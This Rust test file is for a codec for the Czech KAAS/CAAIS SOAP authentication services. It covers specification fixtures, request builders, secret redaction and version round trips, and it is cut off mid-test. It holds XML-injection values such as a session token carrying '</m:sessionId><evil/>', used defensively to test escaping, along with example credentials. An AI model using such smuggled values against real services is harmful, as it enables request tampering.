//! Tests for the JIP/KAAS SOAP codec.
//!
//! * Every verbatim response (and several request) examples of kaas.md and
//!   caais.md, saved under `testdata/` with the documented repairs, parsed to
//!   specific field values. The unrepairable-as-printed originals are kept as
//!   `*.verbatim_unrepaired.xml` and must fail with a specific error.
//! * Request builders: exact canonical text, namespaces, escaping.
//! * Builder → parser round trips for every version, operation, namespace
//!   variant and quirk combination.
//! * Hostile and broken input: each maps to one specific [`SoapError`].
//! * XSD validation of every builder output with `xmllint` (skipped when
//!   `xmllint` is not installed); see [`builders_validate_against_wsdl_xsd`].

use super::*;
use crate::sim::kaas_soap::*;
use crate::xml::MAX_ERROR_TEXT;
use base64::engine::general_purpose::STANDARD;

use std::path::{Path, PathBuf};
use std::process::Command;

use ServiceVersion::{V2_1, V3_4, V4_1, V4_2};

macro_rules! fixture {
    ($name:literal) => {
        include_str!(concat!("../testdata/", $name))
    };
}

const KAAS_SESSION_ID: &str = "00-c679c0687f2d43ebbcd766876f90da66";
const CAAIS_SESSION_ID: &str = "NBbUqwctW-Ri1fAUes9FsFhmueGsDmkaG5pSwENkZMWeqsQvIG";
const KAAS_TLI: &str = "T00-b899e113cbfa47c08f8fb7fdaa571f4f";

fn s(v: &str) -> Option<String> {
    Some(v.to_owned())
}

fn roles(v: &[&str]) -> Vec<String> {
    v.iter().map(|r| r.to_string()).collect()
}

fn agenda(code: &str, r: &[&str]) -> (String, Vec<String>) {
    (code.to_owned(), roles(r))
}

fn attrs_of(resp: &AuthConfirmation) -> &KaasAttributes {
    match &resp.attributes {
        Some(a) => a,
        None => panic!("response has no attributes: {resp:?}"),
    }
}

// ---------------------------------------------------------------------------
// Fixtures from the specifications
// ---------------------------------------------------------------------------

#[test]
fn heart_beat_fixtures() {
    let cases: &[(&str, &str, ServiceVersion)] = &[
        ("kaas v2_1", fixture!("kaas_auth_v2_1_heartbeat_response.xml"), V2_1),
        ("kaas v3_4", fixture!("kaas_auth_v3_4_heartbeat_response.xml"), V3_4),
        ("kaas v4_1", fixture!("kaas_auth_v4_1_heartbeat_response.xml"), V4_1),
        ("kaas v4_2 (repaired)", fixture!("kaas_auth_v4_2_heartbeat_response.xml"), V4_2),
        ("caais v4_2", fixture!("caais_heartbeat_response.xml"), V4_2),
    ];
    for (label, xml, version) in cases {
        let hb = parse_heart_beat_response(xml.as_bytes(), *version).unwrap_or_else(|e| panic!("{label}: {e}"));
        assert_eq!(hb, HeartBeat { ok: true, code: None, message: None }, "{label}");
    }
}

/// Assertions shared by the KAAS examples of user "jnovak" at JstrbLhota.
fn assert_kaas_jnovak_base(a: &KaasAttributes) {
    assert_eq!(a.username, s("jnovak"));
    assert_eq!(a.jmeno, s("Jan"));
}

type AuthCheck = fn(&AuthConfirmation);

#[test]
fn auth_confirmation_fixtures() {
    let cases: &[(&str, &str, ServiceVersion, AuthCheck)] = &[
        ("kaas v2_1", fixture!("kaas_auth_v2_1_auth_confirmation_response.xml"), V2_1, |r| {
            assert_eq!(r.status, AuthStatus::Ok);
            assert_eq!(r.description, None);
            let a = attrs_of(r);
            assert_kaas_jnovak_base(a);
            assert_eq!(a.user_request_ip, s("192.168.0.1"));
            assert_eq!(a.uzivatel_id, s("E5TVdDM2zEXfkxOU1XQzNg=="));
            assert_eq!(a.user_id, s("1394d574-3336-cc45-df93-1394d5743336"));
            assert_eq!(a.zkratka_subjektu, s("JstrbLhota"));
            assert_eq!(a.ic_subjektu, s("00235415"));
            assert_eq!(a.prijmeni, s("Novák"));
            assert_eq!(a.titul_pred, s("Ing."));
            assert_eq!(a.titul_za, s("CSc"));
            assert_eq!(a.pristupove_role, roles(&["Administrator"]));
            assert_eq!(a.cinnostni_role, vec![agenda("A100", &["ACR01"]), agenda("A101", &["ACR02"])]);
            assert_eq!(a.email, None);
            assert_eq!(a.time_limited_id, None);
        }),
        ("kaas v3_4 (repaired)", fixture!("kaas_auth_v3_4_auth_confirmation_response.xml"), V3_4, |r| {
            assert_eq!(r.status, AuthStatus::Ok);
            let a = attrs_of(r);
            assert_kaas_jnovak_base(a);
            assert_eq!(a.user_request_ip, s("192.168.0.1"));
            assert_eq!(a.user_id, s("1394d574-3336-cc45-df93-1394d5743336"));
            assert_eq!(a.cinnostni_role.len(), 2);
            assert_eq!(a.email, s("jnovak@jestrabi-lhota.cz"));
            assert_eq!(a.nazev_subjektu, s("Městský úřad Jestřábí Lhota"));
            assert_eq!(a.email_subjektu, None, "empty element = absent");
            assert_eq!(a.typ_instituce, Some(9));
            assert_eq!(a.ovm_primarni, Some(false));
            assert_eq!(a.typ_prihlaseni, s("p-cert"));
            assert_eq!(a.osoba_ztotoznena, Some(false));
            assert_eq!(a.token_aifo, None);
            assert_eq!(
                a.pracoviste,
                Some(Pracoviste {
                    id: s("DislPracPrah"),
                    nazev: s("Dislokované pracoviště Praha"),
                    adresa: s("Na žertvách 132/24, Libeň - Praha 8, 18000 Praha"),
                    kod_adresy: s("22376097"),
                })
            );
            assert_eq!(a.identifikator_ovm, s("12345678"));
            assert_eq!(a.time_limited_id, s(KAAS_TLI));
            assert_eq!(a.misto_narozeni, None);
        }),
        (
            "kaas v4_1 (repaired TimeLimitedId wrap)",
            fixture!("kaas_auth_v4_1_auth_confirmation_response.xml"),
            V4_1,
            |r| {
                assert_eq!(r.status, AuthStatus::Ok);
                let a = attrs_of(r);
                assert_kaas_jnovak_base(a);
                assert_eq!(a.uzivatel_id, s("xrtWW0Ug0UtchMa7VltFIA=="));
                assert_eq!(a.user_id, s("c6bb565b-4520-d14b-5c84-c6bb565b4520"));
                assert_eq!(a.prijmeni, s("Novak"));
                assert_eq!(a.titul_pred, s("Bc."));
                assert_eq!(a.titul_za, None);
                assert_eq!(a.cinnostni_role, vec![agenda("A113", &["CR1011"])]);
                assert_eq!(a.ovm_primarni, Some(true), "TRUE upper case");
                assert_eq!(
                    a.misto_narozeni,
                    Some(MistoNarozeni {
                        stav: Some(StavUdaje::Nespravny),
                        cr: Some(MistoNarozeniCr { kod: s("562343"), nazev: s("Arnoltice"), mop: Some(false) }),
                        svet: Some(MistoNarozeniSvet { stat: s("804"), stat_nazev: s("Ukrajina"), misto: s("KYJEV") }),
                    })
                );
                assert_eq!(
                    a.datum_narozeni,
                    Some(DatumSeStavem { datum: "1978-04-02".into(), stav: Some(StavUdaje::Spravny) })
                );
                assert_eq!(a.datum_umrti, None, "<DatumUmrti/> is absent");
                assert_eq!(
                    a.doklady,
                    vec![
                        Doklad { cislo: "11111908".into(), typ: s("P"), stav: Some(StavUdaje::Spravny) },
                        Doklad { cislo: "111111908".into(), typ: s("ID"), stav: Some(StavUdaje::Spravny) },
                    ]
                );
                assert_eq!(a.neevidovat_osobni_udaje, Some(false));
                assert_eq!(a.identifikator_ovm, s("12345678"));
                assert_eq!(a.time_limited_id, s(KAAS_TLI));
            },
        ),
        ("kaas v4_2 (SPUU)", fixture!("kaas_auth_v4_2_auth_confirmation_response.xml"), V4_2, |r| {
            assert_eq!(r.status, AuthStatus::Ok);
            let a = attrs_of(r);
            assert_kaas_jnovak_base(a);
            assert_eq!(a.zkratka_subjektu, s("spuu_00836265.9999"));
            assert_eq!(a.ic_subjektu, s("836265"));
            assert_eq!(a.nazev_subjektu, s("BULGER a ASSOCIATES"));
            assert_eq!(a.typ_instituce, Some(101));
            assert_eq!(a.cinnostni_role, vec![], "<CinnostniRole/>");
            assert_eq!(a.email, None);
            assert_eq!(a.typ_prihlaseni_nia, None);
            assert_eq!(a.misto_narozeni, None);
            assert_eq!(a.doklady, vec![]);
            assert_eq!(a.datum_narozeni, None);
            assert_eq!(a.identifikator_ovm, None);
            assert_eq!(a.identifikator_spuu, s("00836265.9999"));
            assert_eq!(a.time_limited_id, None);
            assert_eq!(a.pracoviste.as_ref().and_then(|p| p.kod_adresy.clone()), s("22378235"));
        }),
        ("caais session not found", fixture!("caais_session_not_found_response.xml"), V4_2, |r| {
            assert_eq!(r.status, AuthStatus::SessionNotFound);
            assert_eq!(r.attributes, None);
        }),
        ("caais v4_2", fixture!("caais_auth_confirmation_v4_2_response.xml"), V4_2, |r| {
            assert_eq!(r.status, AuthStatus::Ok);
            let a = attrs_of(r);
            assert_eq!(a.user_request_ip, s("0.0.0.0"));
            assert_eq!(a.username, s("humphrey_appleby"));
            assert_eq!(a.uzivatel_id, s("MTZiMzM2NzAtYTgxNi00YzFhLTg3MTItZDk5ZTlmZjg1ZmVj"));
            assert_eq!(a.user_id, s("16b33670-a816-4c1a-8712-d99e9ff85fec"));
            assert_eq!(a.zkratka_subjektu, s("DIACZ"));
            assert_eq!(a.ic_subjektu, s("17651921"));
            assert_eq!(a.titul_pred, s("Sir"));
            assert_eq!(a.titul_za, None);
            assert_eq!(a.pristupove_role, roles(&["USER", "ADMIN"]));
            assert_eq!(a.cinnostni_role, vec![]);
            assert_eq!(a.nazev_subjektu, s("Digitální a informační agentura"));
            assert_eq!(a.typ_instituce, Some(11));
            assert_eq!(a.ovm_primarni, None, "empty OvmPrimarni");
            assert_eq!(a.typ_prihlaseni, s("p-pwd"));
            assert_eq!(a.typ_prihlaseni_nia, s("http://eidas.europa.eu/LoA/low"));
            assert_eq!(a.pracoviste, None);
            assert_eq!(a.misto_narozeni, None);
            assert_eq!(a.identifikator_ovm, s("17651921"));
            assert_eq!(a.identifikator_spuu, None);
            assert_eq!(a.time_limited_id, s("0814a3b3-509a-4dc2-bcd3-7cf016141404"));
        }),
    ];
    for (label, xml, version, check) in cases {
        let resp =
            parse_auth_confirmation_response(xml.as_bytes(), *version).unwrap_or_else(|e| panic!("{label}: {e}"));
        check(&resp);
    }
}

#[test]
fn direct_auth_user_fixtures() {
    let cases: &[(&str, &str, ServiceVersion, DirectNamespace, AuthCheck)] = &[
        ("kaas direct v3_4", fixture!("kaas_direct_v3_4_response.xml"), V3_4, DirectNamespace::AtsUser, |r| {
            assert_eq!(r.status, AuthStatus::Ok);
            assert_eq!(r.description, s("Autentizace proběhla úspěšně."));
            let a = attrs_of(r);
            assert_kaas_jnovak_base(a);
            assert_eq!(a.user_request_ip, s("90.181.150.14"));
            assert_eq!(a.uzivatel_id, s("7rsuG2KxZUIEku67LhtisQ=="));
            assert_eq!(a.user_id, s("eebb2e1b-62b1-6542-0492-eebb2e1b62b1"));
            assert_eq!(a.pristupove_role, roles(&["Szr"]));
            assert_eq!(a.cinnostni_role, vec![agenda("A100", &["ACR01"])]);
            assert_eq!(a.email_subjektu, s("test@email.cz"));
            let p = a.pracoviste.clone().unwrap_or_default();
            assert_eq!(p.id, s("DislPracPrah"));
            assert_eq!(p.kod_adresy, None, "no KodAdresy in this example");
            assert_eq!(a.identifikator_ovm, s("12345678"));
            assert_eq!(a.time_limited_id, s(KAAS_TLI));
        }),
        ("kaas direct v4_1", fixture!("kaas_direct_v4_1_response.xml"), V4_1, DirectNamespace::AtsUser, |r| {
            assert_eq!(r.status, AuthStatus::Ok);
            let a = attrs_of(r);
            assert_eq!(
                a.pracoviste.as_ref().and_then(|p| p.adresa.clone()),
                s("Na Žertvách 132/24, Libeň - Praha 8, 18000 Praha")
            );
            let place = a.misto_narozeni.clone().unwrap_or_default();
            assert_eq!(place.stav, Some(StavUdaje::Nespravny));
            assert_eq!(place.cr.and_then(|c| c.nazev), s("Arnoltice"));
            assert_eq!(place.svet.and_then(|c| c.misto), s("KYJEV"));
            assert_eq!(a.doklady.len(), 2);
            assert_eq!(a.doklady[1].typ, s("ID"));
            assert_eq!(a.neevidovat_osobni_udaje, Some(false));
        }),
        ("kaas direct v4_2", fixture!("kaas_direct_v4_2_response.xml"), V4_2, DirectNamespace::AtsUser, |r| {
            assert_eq!(r.status, AuthStatus::Ok);
            let a = attrs_of(r);
            assert_eq!(a.identifikator_spuu, s("00836265.9999"));
            assert_eq!(a.identifikator_ovm, None);
            assert_eq!(a.typ_prihlaseni_nia, None);
            assert_eq!(a.misto_narozeni, None);
            assert_eq!(a.doklady.len(), 2);
            assert_eq!(a.time_limited_id, s(KAAS_TLI));
        }),
        (
            "caais direct v4_2 (attributes first, empty roles, no description)",
            fixture!("caais_direct_v4_2_response.xml"),
            V4_2,
            DirectNamespace::AtsUserAtsSzr,
            |r| {
                assert_eq!(r.status, AuthStatus::Ok);
                assert_eq!(r.description, None);
                let a = attrs_of(r);
                assert_eq!(a.user_request_ip, None);
                assert_eq!(a.username, s("humphrey_appleby"));
                assert_eq!(a.user_id, s("16b33670-a816-4c1a-8712-d99e9ff85fec"));
                assert_eq!(a.pristupove_role, Vec::<String>::new());
                assert_eq!(a.token_aifo, None);
                assert_eq!(a.typ_prihlaseni_nia, s("http://eidas.europa.eu/LoA/low"));
                assert_eq!(a.time_limited_id, s("723e81cb-02f8-4872-8b9d-30326f895d7a"));
            },
        ),
    ];
    for (label, xml, version, ns, check) in cases {
        let resp =
            parse_direct_auth_user_response(xml.as_bytes(), *version, *ns).unwrap_or_else(|e| panic!("{label}: {e}"));
        check(&resp);
    }
}

#[test]
fn direct_v1_fixture_is_refused() {
    let xml = fixture!("kaas_direct_v1_response.xml").as_bytes();
    assert_eq!(
        parse_direct_auth_user_response(xml, V3_4, DirectNamespace::AtsUser),
        Err(SoapError::WrongNamespace {
            expected: "http://agw-as.cz/ats-ws/atsUser/v3_4".into(),
            found: "http://agw-as.cz/ats-ws/atsUser/v1".into(),
        })
    );
    assert!(matches!(
        parse_direct_auth_user_response(xml, V2_1, DirectNamespace::AtsUser),
        Err(SoapError::UnsupportedVersion(_))
    ));
}

#[test]
fn unrepaired_verbatim_examples_fail_specifically() {
    // As printed in the documents (kaas.md §16): not usable without repair.
    let v2_1 = fixture!("kaas_auth_v2_1_auth_confirmation_response.verbatim_unrepaired.xml");
    assert!(matches!(parse_auth_confirmation_response(v2_1.as_bytes(), V2_1), Err(SoapError::WrongNamespace { .. })));
    let v3_4 = fixture!("kaas_auth_v3_4_auth_confirmation_response.verbatim_unrepaired.xml");
    assert!(matches!(parse_auth_confirmation_response(v3_4.as_bytes(), V3_4), Err(SoapError::Malformed(_))));
    let hb = fixture!("kaas_auth_v4_2_heartbeat_response.verbatim_unrepaired.xml");
    assert!(matches!(parse_heart_beat_response(hb.as_bytes(), V4_2), Err(SoapError::Malformed(_))));
    let v1 = fixture!("kaas_direct_v1_response.verbatim_unrepaired.xml");
    let err = parse_direct_auth_user_response(v1.as_bytes(), V3_4, DirectNamespace::AtsUser);
    assert!(matches!(err, Err(SoapError::UnexpectedElement { .. })), "{err:?}");
}

#[test]
fn request_fixtures_parse() {
    let hb = |v| KaasRequest::HeartBeat { version: v };
    let ac = |v, sid: &str| KaasRequest::AuthConfirmation { version: v, session_id: sid.into() };
    let cases: &[(&str, KaasRequest)] = &[
        (fixture!("kaas_auth_v2_1_heartbeat_request.xml"), hb(V2_1)),
        (fixture!("kaas_auth_v4_2_heartbeat_request.xml"), hb(V4_2)),
        (fixture!("caais_heartbeat_request.xml"), hb(V4_2)),
        (fixture!("kaas_auth_v2_1_auth_confirmation_request.xml"), ac(V2_1, KAAS_SESSION_ID)),
        (fixture!("kaas_auth_v4_2_auth_confirmation_request.xml"), ac(V4_2, KAAS_SESSION_ID)),
        (fixture!("caais_auth_confirmation_request.xml"), ac(V4_2, CAAIS_SESSION_ID)),
        (
            fixture!("kaas_direct_v3_4_request.xml"),
            KaasRequest::DirectAuthUser {
                version: V3_4,
                ns: DirectNamespace::AtsUser,
                username: "k3qrto7u".into(),
                password: "No.df5sc+6zrv".into(),
            },
        ),
        (
            fixture!("caais_direct_request.xml"),
            KaasRequest::DirectAuthUser {
                version: V4_2,
                ns: DirectNamespace::AtsUserAtsSzr,
                username: "caais_user_2362685776".into(),
                password: "81R:t=cD+RHBAQrO-Qax".into(),
            },
        ),
    ];
    for (xml, expected) in cases {
        assert_eq!(parse_request(xml.as_bytes()).as_ref(), Ok(expected));
    }
    assert!(matches!(
        parse_request(fixture!("kaas_direct_v1_request.xml").as_bytes()),
        Err(SoapError::UnsupportedVersion(_))
    ));
}

// ---------------------------------------------------------------------------
// Versions, namespaces, constants
// ---------------------------------------------------------------------------

#[test]
fn versions_and_namespaces() {
    for (text, v) in [("v2_1", V2_1), ("v3_4", V3_4), ("v4_1", V4_1), ("v4_2", V4_2)] {
        assert_eq!(text.parse::<ServiceVersion>(), Ok(v));
        assert_eq!(v.as_str(), text);
        assert_eq!(v.to_string(), text);
        assert_eq!(v.auth_namespace(), format!("http://agw-as.cz/ats-ws/atsSzr/{text}"));
    }
    assert_eq!("V4.2".parse::<ServiceVersion>(), Ok(V4_2));
    assert!(matches!("v1".parse::<ServiceVersion>(), Err(SoapError::UnsupportedVersion(_))));
    assert_eq!(ServiceVersion::default(), V4_2);
    assert_eq!(DirectNamespace::default(), DirectNamespace::AtsUserAtsSzr);
    assert_eq!(DirectNamespace::AtsUser.namespace(V4_1), Ok("http://agw-as.cz/ats-ws/atsUser/v4_1"));
    assert_eq!(DirectNamespace::AtsUserAtsSzr.namespace(V3_4), Ok("http://agw-as.cz/ats-ws/atsUser/atsSzr/v3_4"));
    for ns in DirectNamespace::ALL {
        assert!(matches!(ns.namespace(V2_1), Err(SoapError::UnsupportedVersion(_))));
        assert_eq!(ns.as_str().parse::<DirectNamespace>(), Ok(ns));
    }
}

#[test]
fn soap_actions_match_wsdl() {
    // GetCredential_*.wsdl: heartBeat → "heartBeat", authConfirmation → "".
    // DirectAuth_*.wsdl: directAuthUser → "directAuthUserv2".
    assert_eq!(SOAP_ACTION_AUTH_CONFIRMATION, "");
    assert_eq!(SOAP_ACTION_HEART_BEAT, "heartBeat");
    assert_eq!(SOAP_ACTION_DIRECT_AUTH_USER, "directAuthUserv2");
    assert_eq!(soap_action_header_value(""), "\"\"");
    assert_eq!(soap_action_header_value("heartBeat"), "\"heartBeat\"");
}

// ---------------------------------------------------------------------------
// Request builders
// ---------------------------------------------------------------------------

#[test]
fn heart_beat_request_matches_canonical_template() {
    let expected = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\">\n  \
<soapenv:Body>\n    \
<m:heartBeatRequest xmlns:m=\"http://agw-as.cz/ats-ws/atsSzr/v4_2\"/>\n  \
</soapenv:Body>\n\
</soapenv:Envelope>\n";
    assert_eq!(heart_beat_request(V4_2), expected);
}

#[test]
fn auth_confirmation_request_matches_canonical_template() {
    let expected = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\">\n  \
<soapenv:Body>\n    \
<m:authConfirmationRequest xmlns:m=\"http://agw-as.cz/ats-ws/atsSzr/v2_1\">\n      \
<m:sessionId>00-c679c0687f2d43ebbcd766876f90da66</m:sessionId>\n    \
</m:authConfirmationRequest>\n  \
</soapenv:Body>\n\
</soapenv:Envelope>\n";
    assert_eq!(auth_confirmation_request(V2_1, KAAS_SESSION_ID), expected);
}

#[test]
fn request_builders_every_version() {
    for v in ServiceVersion::ALL {
        let hb = heart_beat_request(v);
        assert!(hb.contains(&format!("<m:heartBeatRequest xmlns:m=\"{}\"/>", v.auth_namespace())));
        assert_eq!(parse_request(hb.as_bytes()), Ok(KaasRequest::HeartBeat { version: v }));

        let ac = auth_confirmation_request(v, CAAIS_SESSION_ID);
        assert!(ac.contains(&format!("<m:sessionId>{CAAIS_SESSION_ID}</m:sessionId>")));
        assert_eq!(
            parse_request(ac.as_bytes()),
            Ok(KaasRequest::AuthConfirmation { version: v, session_id: CAAIS_SESSION_ID.into() })
        );

        for ns in DirectNamespace::ALL {
            let built = direct_auth_user_request(v, ns, "k3qrto7u", "No.df5sc+6zrv");
            if v == V2_1 {
                assert!(matches!(built, Err(SoapError::UnsupportedVersion(_))));
                continue;
            }
            let xml = built.unwrap_or_else(|e| panic!("{v} {ns}: {e}"));
            let namespace = ns.namespace(v).unwrap_or_default();
            assert!(xml.contains(&format!("<m:directAuthUserRequest xmlns:m=\"{namespace}\">")));
            assert!(xml.contains("<m:username>k3qrto7u</m:username>"));
            assert!(xml.contains("<m:password>No.df5sc+6zrv</m:password>"));
            assert_eq!(
                parse_request(xml.as_bytes()),
                Ok(KaasRequest::DirectAuthUser {
                    version: v,
                    ns,
                    username: "k3qrto7u".into(),
                    password: "No.df5sc+6zrv".into(),
                })
            );
        }
    }
}

#[test]
fn request_builders_escape_values() {
    let nasty = "a<b>&c\"d'e]]>f\r\n\tž 😀";
    let xml = direct_auth_user_request(V4_2, DirectNamespace::AtsUser, nasty, nasty).unwrap_or_else(|e| panic!("{e}"));
    assert!(xml.contains("<m:username>a&lt;b&gt;&amp;c\"d'e]]&gt;f&#13;\n\tž 😀</m:username>"));
    assert!(!xml.contains("<b>"));
    match parse_request(xml.as_bytes()) {
        Ok(KaasRequest::DirectAuthUser { username, password, .. }) => {
            assert_eq!(username, nasty);
            assert_eq!(password, nasty);
        }
        other => panic!("{other:?}"),
    }

    let ac = auth_confirmation_request(V4_2, "x</m:sessionId><evil/>");
    assert!(ac.contains("x&lt;/m:sessionId&gt;&lt;evil/&gt;"));

    // XML 1.0 cannot carry NUL; credentials are refused rather than altered.
    let err = direct_auth_user_request(V4_2, DirectNamespace::AtsUser, "u", "SECRET\0pw");
    assert_eq!(err, Err(SoapError::InvalidCharacter));
    assert!(!SoapError::InvalidCharacter.to_string().contains("SECRET"));
    // The token is escaped lossily (caller validated it already).
    assert!(auth_confirmation_request(V4_2, "a\u{1}b").contains("a\u{FFFD}b"));
}

#[test]
fn debug_output_redacts_secrets() {
    let req = KaasRequest::DirectAuthUser {
        version: V4_2,
        ns: DirectNamespace::AtsUser,
        username: "u".into(),
        password: "SECRET-PW".into(),
    };
    assert!(!format!("{req:?}").contains("SECRET-PW"));
    let req = KaasRequest::AuthConfirmation { version: V4_2, session_id: KAAS_SESSION_ID.into() };
    assert!(!format!("{req:?}").contains(KAAS_SESSION_ID));
    let attrs = KaasAttributes { time_limited_id: s(KAAS_TLI), username: s("jnovak"), ..KaasAttributes::default() };
    let dbg = format!("{attrs:?}");
    assert!(!dbg.contains(KAAS_TLI));
    assert!(dbg.contains("jnovak") && dbg.contains("<redacted>"));
}

// ---------------------------------------------------------------------------
// Round trips
// ---------------------------------------------------------------------------

const UUID: &str = "16b33670-a816-4c1a-8712-d99e9ff85fec";

/// Attribute values that satisfy every XSD facet, for every version.
fn valid_attributes() -> KaasAttributes {
    KaasAttributes {
        user_request_ip: s("192.168.0.1"),
        username: s("jnovak"),
        uzivatel_id: None,
        user_id: s(UUID),
        zkratka_subjektu: s("JstrbLhota"),
        ic_subjektu: s("00235415"),
        jmeno: s("Jan"),
        prijmeni: s("Novák"),
        titul_pred: s("Ing."),
        titul_za: s("CSc"),
        pristupove_role: roles(&["Administrator", "Szr"]),
        cinnostni_role: vec![agenda("A100", &["ACR01", "ACR02"]), agenda("A101", &["X"])],
        email: s("jnovak@jestrabi-lhota.cz"),
        nazev_subjektu: s("Městský úřad Jestřábí Lhota & <spol>"),
        email_subjektu: s("podatelna@jestrabi-lhota.cz"),
        typ_instituce: Some(9),
        ovm_primarni: Some(false),
        typ_prihlaseni: s("p-cert"),
        typ_prihlaseni_nia: s("http://eidas.europa.eu/LoA/substantial"),
        osoba_ztotoznena: Some(true),
        token_aifo: None,
        pracoviste: Some(Pracoviste {
            id: s("DislPracPrah"),
            nazev: s("Dislokované pracoviště Praha"),
            adresa: s("Na Žertvách 132/24, Libeň - Praha 8, 18000 Praha"),
            kod_adresy: s("22376097"),
        }),
        identifikator_ovm: s("12345678"),
        identifikator_spuu: None,
        time_limited_id: s(KAAS_TLI),
        misto_narozeni: Some(MistoNarozeni {
            stav: Some(StavUdaje::Nespravny),
            cr: Some(MistoNarozeniCr { kod: s("562343"), nazev: s("Arnoltice \"Dolní\""), mop: Some(false) }),
            svet: Some(MistoNarozeniSvet { stat: s("804"), stat_nazev: s("Ukrajina"), misto: s("KYJEV") }),
        }),
        datum_narozeni: Some(DatumSeStavem { datum: "1978-04-02".into(), stav: Some(StavUdaje::Spravny) }),
        datum_umrti: None,
        doklady: vec![
            Doklad { cislo: "11111908".into(), typ: s("P"), stav: Some(StavUdaje::Spravny) },
            Doklad { cislo: "111111908".into(), typ: s("ID"), stav: Some(StavUdaje::NespravnyTvar) },
        ],
        neevidovat_osobni_udaje: Some(false),
    }
}

/// `a` with every field that `version`'s XSD lacks cleared.
fn restrict(mut a: KaasAttributes, version: ServiceVersion) -> KaasAttributes {
    if version < V3_4 {
        a.email = None;
        a.nazev_subjektu = None;
        a.email_subjektu = None;
        a.typ_instituce = None;
        a.ovm_primarni = None;
        a.typ_prihlaseni = None;
        a.osoba_ztotoznena = None;
        a.token_aifo = None;
        a.pracoviste = None;
        a.identifikator_ovm = None;
        a.time_limited_id = None;
    }
    if version < V4_1 {
        a.misto_narozeni = None;
        a.datum_narozeni = None;
        a.datum_umrti = None;
        a.doklady = Vec::new();
        a.neevidovat_osobni_udaje = None;
    }
    if version < V4_2 {
        a.typ_prihlaseni_nia = None;
        a.identifikator_spuu = None;
    }
    a
}

/// What the parser must return for attributes built with `style`.
fn expected_after_round_trip(
    a: &KaasAttributes,
    version: ServiceVersion,
    style: &ResponseStyle,
    direct: bool,
) -> KaasAttributes {
    let mut e = restrict(a.clone(), version);
    let (strict, base64_text, no_roles) = match style {
        ResponseStyle::Strict => (true, false, false),
        ResponseStyle::Quirks(q) => (false, q.base64_user_id, q.empty_access_roles),
    };
    e.uzivatel_id = match (parse_uuid(UUID), base64_text) {
        (Some(_), true) => s(&STANDARD.encode(UUID)),
        (Some(bytes), false) => s(&STANDARD.encode(bytes)),
        (None, _) => None,
    };
    if no_roles {
        e.pristupove_role.clear();
    }
    if strict {
        if let Some(place) = e.misto_narozeni.as_mut() {
            if place.cr.is_some() {
                place.svet = None;
            }
        }
        if direct {
            e.user_request_ip = None;
        }
    }
    e
}

fn all_styles() -> Vec<ResponseStyle> {
    let mut styles = vec![ResponseStyle::Strict];
    for prefix in [None, s("ns2"), s("kaas"), s("v4_2"), s("")] {
        for envelope_prefix in ["soap", "SOAP-ENV", "soapenv", ""] {
            for bits in 0..8u8 {
                styles.push(ResponseStyle::Quirks(Quirks {
                    prefix: prefix.clone(),
                    envelope_prefix: envelope_prefix.into(),
                    attributes_before_status: bits & 1 != 0,
                    base64_user_id: bits & 2 != 0,
                    empty_access_roles: bits & 4 != 0,
                }));
            }
        }
    }
    styles
}

#[test]
fn round_trip_auth_confirmation_all_versions_and_styles() {
    let attrs = valid_attributes();
    for version in ServiceVersion::ALL {
        for style in all_styles() {
            let xml = auth_confirmation_response(version, &AuthStatus::Ok, Some(&attrs), style.clone());
            let parsed = parse_auth_confirmation_response(xml.as_bytes(), version)
                .unwrap_or_else(|e| panic!("{version} {style:?}: {e}\n{xml}"));
            assert_eq!(parsed.status, AuthStatus::Ok);
            assert_eq!(parsed.description, None);
            let expected = expected_after_round_trip(&attrs, version, &style, false);
            assert_eq!(parsed.attributes.as_ref(), Some(&expected), "{version} {style:?}\n{xml}");
        }
    }
}

#[test]
fn round_trip_direct_auth_user_all_versions_namespaces_and_styles() {
    let attrs = valid_attributes();
    for version in [V3_4, V4_1, V4_2] {
        for ns in DirectNamespace::ALL {
            for style in all_styles() {
                let xml = direct_auth_user_response(version, ns, &AuthStatus::Ok, Some(&attrs), style.clone());
                let parsed = parse_direct_auth_user_response(xml.as_bytes(), version, ns)
                    .unwrap_or_else(|e| panic!("{version} {ns} {style:?}: {e}\n{xml}"));
                assert_eq!(parsed.status, AuthStatus::Ok);
                assert_eq!(parsed.description, s("Autentizace proběhla úspěšně."));
                let expected = expected_after_round_trip(&attrs, version, &style, true);
                assert_eq!(parsed.attributes.as_ref(), Some(&expected), "{version} {ns} {style:?}\n{xml}");
            }
        }
    }
}

#[test]
fn round_trip_statuses_without_attributes() {
    let statuses = [
        AuthStatus::Ok,
        AuthStatus::SessionNotFound,
        AuthStatus::SystemError,
        AuthStatus::VerificationFailed,
        AuthStatus::Other("SOMETHING_NEW".into()),
    ];
    for status in &statuses {
        for style in [ResponseStyle::Strict, ResponseStyle::Quirks(Quirks::default())] {
            let xml = auth_confirmation_response(V4_2, status, None, style.clone());
            let parsed = parse_auth_confirmation_response(xml.as_bytes(), V4_2);
            assert_eq!(parsed, Ok(AuthConfirmation { status: status.clone(), description: None, attributes: None }));
            let xml = direct_auth_user_response_with_description(
                V3_4,
                DirectNamespace::AtsUser,
                status,
                Some("Neplatné přihlašovací údaje <&>"),
                None,
                style,
            );
            let parsed = parse_direct_auth_user_response(xml.as_bytes(), V3_4, DirectNamespace::AtsUser);
            assert_eq!(
                parsed,
                Ok(AuthConfirmation {
                    status: status.clone(),
                    description: s("Neplatné přihlašovací údaje <&>"),
                    attributes: None
                })
            );
        }
    }
}

#[test]
fn round_trip_sparse_attributes() {
    // Mostly absent values: empty elements on the wire, `None` again after.
    let attrs = KaasAttributes {
        username: s("x_y"),
        uzivatel_id: s("not-base64!"),
        user_id: s("not-base64!"),
        pristupove_role: roles(&["R"]),
        ..KaasAttributes::default()
    };
    for version in ServiceVersion::ALL {
        let xml = auth_confirmation_response(
            version,
            &AuthStatus::Ok,
            Some(&attrs),
            ResponseStyle::Quirks(Quirks::default()),
        );
        let parsed = parse_auth_confirmation_response(xml.as_bytes(), version);
        assert_eq!(parsed.map(|r| r.attributes), Ok(Some(attrs.clone())), "{xml}");
    }
}

#[test]
fn builders_emit_only_elements_of_the_version() {
    let attrs = valid_attributes();
    let quirks = ResponseStyle::Quirks(Quirks::default());
    let v2_1 = auth_confirmation_response(V2_1, &AuthStatus::Ok, Some(&attrs), quirks.clone());
    for absent in ["Email", "Pracoviste", "TimeLimitedId", "MistoNarozeni", "IdentifikatorSpuu"] {
